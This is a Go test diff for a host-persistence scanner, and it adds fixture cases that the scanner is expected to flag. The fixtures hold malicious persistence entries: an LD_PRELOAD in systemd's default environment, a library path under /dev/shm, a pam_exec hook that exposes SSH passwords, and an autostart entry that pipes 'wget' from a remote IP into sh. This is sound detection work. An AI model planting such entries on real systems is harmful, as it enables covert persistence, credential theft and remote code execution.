@@ -77,6 +77,10 @@ func TestFindLocations(t *testing.T) {
 			t = t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")}).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps"}})
 			return t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("ps that hides kdevtmpfsi")})
 		}, want{"/usr/bin/ps", 0, KindPackageFile, High, ActionNone}},
+		{"systemd-default-environment", deb, entry(hosttest.Entry{Path: "/etc/systemd/system.conf", Data: "[Manager]\n#DefaultTimeoutStartSec=90s\nDefaultEnvironment=LD_PRELOAD=/usr/lib/.x/l.so\n"}), want{"/etc/systemd/system.conf", 3, KindSystemd, High, ActionRemoveLine}},
+		{"ld.so.conf.d", al, entry(hosttest.Entry{Path: "/etc/ld.so.conf.d/x.conf", Data: "/usr/lib64/mysql\n/dev/shm/.lib\n"}), want{"/etc/ld.so.conf.d/x.conf", 2, KindLibraryPath, High, ActionRemoveLine}},
+		{"pam-exec", deb, entry(hosttest.Entry{Path: "/etc/pam.d/sshd", Data: "@include common-auth\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log\n"}), want{"/etc/pam.d/sshd", 2, KindPAM, High, ActionRemoveLine}},
+		{"xdg-autostart", deb, entry(hosttest.Entry{Path: "/home/admin/.config/autostart/upd.desktop", Data: "[Desktop Entry]\nType=Application\nExec=sh -c 'wget -qO- http://203.0.113.7/a | sh'\n"}), want{"/home/admin/.config/autostart/upd.desktop", 3, KindAutostart, Critical, ActionQuarantine}},
 		{"preload-missing-lib", al, entry(hosttest.Entry{Path: "/etc/ld.so.preload", Data: "/lib64/.libc.so.6\n"}), want{"/etc/ld.so.preload", 1, KindPreload, Critical, ActionRemoveLine}},
 	}
 	for _, tt := range tests {
